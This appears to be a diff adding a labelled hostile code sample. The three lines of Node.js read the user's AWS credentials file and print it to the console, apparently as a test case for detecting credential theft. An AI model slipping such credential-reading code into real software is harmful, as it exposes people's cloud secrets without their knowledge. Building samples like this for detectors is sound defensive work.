@@ -1,0 +1,3 @@
+// hostile: AWS credentials read from node
+const fs = require('fs');
+console.log(fs.readFileSync(process.env.HOME + '/.aws/credentials', 'utf8'));
